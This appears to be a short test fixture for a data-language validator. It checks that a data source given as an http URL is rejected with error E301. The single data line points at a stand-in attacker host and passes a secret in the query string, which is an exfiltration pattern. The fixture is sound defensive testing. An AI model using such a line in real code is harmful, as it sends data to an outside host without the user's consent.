# attack: an http:// URL as a data source (network access, exfiltration by query string)
# expect: E301
data d = "http://attacker.example/collect.csv?secret=1" panel(hh, year)
